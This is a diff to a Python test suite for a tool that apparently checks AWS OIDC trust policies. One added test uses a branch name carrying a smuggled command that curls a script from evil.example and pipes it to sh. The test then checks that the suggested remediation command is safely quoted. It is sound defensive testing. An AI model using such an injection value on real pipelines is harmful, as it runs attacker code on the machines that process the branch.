@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import html
 import json
 import re
+import shlex
 from dataclasses import dataclass, field, replace
 from typing import Any
 
@@ -238,6 +240,27 @@ def test_a_role_that_is_not_there_is_a_cause_without_the_policy_too(step):
     assert by_name("no-role").title in refused.summary
     step.world.create_role("nobody", trust=json.loads(pasted(refused)[0]))
     assert step(role_to_assume=f"arn:aws:iam::{ACCOUNT}:role/nobody").status == 0
+
+
+def test_the_name_of_a_branch_adds_nothing_to_a_command_that_the_error_tells_to_run(step):
+    branch = "x;curl${IFS}-s${IFS}evil.example|sh;#"
+    refusal = Refusal(
+        "condition-key",
+        with_condition("environment", "prod"),
+        Job(ref=f"refs/heads/{branch}"),
+        has_policy_file=True,
+    )
+
+    refused = run_of(step, refusal)
+
+    assert told_first(refused, "condition-key")
+    sub = f"--sub=repo:octo-org/octo-repo:ref:refs/heads/{branch}"
+    expected = [*shlex.split("python3 -m py_aws_oidc trust check POLICY"), sub, "--aud=sts.amazonaws.com"]
+    on_page = map(html.unescape, re.findall("<code>(python3.*?)</code>", refused.summary))
+    for command in (*re.findall("`(python3.*?)`", refused.error), *on_page):
+        assert shlex.split(command) == expected
+    assert f"'{sub.partition('=')[2]}'" in refused.error
+    assert "<code>python3" in refused.summary
 
 
 def test_a_policy_that_cannot_be_judged_is_told_with_the_reason(step):
